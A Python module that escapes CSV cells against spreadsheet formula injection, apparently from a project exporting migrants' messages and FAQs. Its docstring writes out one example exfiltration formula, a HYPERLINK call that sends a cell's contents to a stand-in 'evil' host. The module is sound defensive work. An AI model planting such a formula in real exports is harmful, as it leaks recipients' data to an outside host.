"""CSV files that a spreadsheet shows as text and never runs as formulas.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil/?"&A1, "click")`` in a migrant's message, attached to an entry from the
inbox, would run on a manager's computer. Every CSV the project writes goes through
``csv_text``, which prefixes such cells with an apostrophe (the OWASP advice: spreadsheets show
the apostrophe-prefixed text as it is and hide the apostrophe). ``unescape_cell`` undoes it, so
an exported FAQ imports back unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when a spreadsheet would read it as a formula.

    Cells already starting with an apostrophe get one more, so that ``unescape_cell`` can
    always take exactly one away. Numbers are left alone (a negative count is not text)."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, ESCAPE)):
        return ESCAPE + value
    return value


def unescape_cell(value: str) -> str:
    """The text ``safe_cell`` was given (a leading apostrophe is a spreadsheet's text marker)."""
    return value[1:] if value.startswith(ESCAPE) else value


def csv_text(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """A CSV file (header, CRLF lines as RFC 4180 says) with every cell made safe."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator="\r\n",
                            extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: safe_cell(value) for key, value in row.items()})
    return out.getvalue()
